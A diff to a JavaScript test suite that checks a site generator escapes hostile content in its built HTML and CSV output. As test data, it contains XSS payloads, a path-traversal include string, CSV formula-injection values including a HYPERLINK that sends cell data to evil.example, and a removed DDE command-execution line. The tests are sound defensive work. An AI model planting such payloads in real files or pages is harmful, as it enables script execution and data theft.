@@ -131,7 +131,7 @@ describe('hostile content that builds', () => {
   test('the payloads are shown as text, not dropped silently', async () => {
     const page = await readFile(path.join(outDir, 'offerings/hostile-md/index.html'), 'utf8');
     expect(page).toContain('Monitoring &lt;script&gt;window.__pwned=&#39;cell-script&#39;&lt;/script&gt;');
-    expect(page).toContain('<td class="col-provider" data-label="IBM responsibilities">&#x3C;img src=x onerror="window.__pwned=\'cell-img\'"> watch</td>');
+    expect(page).toContain('<td data-label="IBM responsibilities">&#x3C;img src=x onerror="window.__pwned=\'cell-img\'"> watch</td>');
     expect(page).toContain('<caption>Caption &lt;script&gt;window.__pwned=&#39;caption-script&#39;&lt;/script&gt;');
     // A keyref value is text: an include written in one is shown, never resolved.
     expect(page).toContain('{{../../../../etc/hostname.md}}');
@@ -149,8 +149,6 @@ describe('hostile content that builds', () => {
     expect(csv).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",`);
     expect(csv).toContain(`,'@SUM(1+1)*cmd,`);
     expect(csv).toContain(`,'+1+1,'-2+3,`);
-    const checklist = await readFile(path.join(outDir, 'checklist/hostile-yaml.csv'), 'utf8');
-    expect(checklist).toContain(`,'=cmd|' /C calc'!A0,`);
     // No field of any published CSV starts a formula.
     for (const file of (await readdir(outDir, { recursive: true })).filter((f) => f.endsWith('.csv'))) {
       const text = await readFile(path.join(outDir, file), 'utf8');
@@ -233,7 +231,7 @@ describe('hostile content in Chromium', () => {
     await tab.goto(`${bare.origin}/compare/?offerings=hostile-md,hostile-yaml&party=customer&diff=1`);
     expect(await tab.page.evaluate(pageState)).toEqual({ pwned: null, live: [] });
     await tab.goto(`${bare.origin}/checklist/hostile-md/`);
-    await tab.page.locator('input[data-checklist-item]').first().check();
+    await tab.page.locator('.checklist-item > input').first().check();
     expect(await tab.page.evaluate(pageState)).toEqual({ pwned: null, live: [] });
     await tab.context.close();
   }, 60_000);
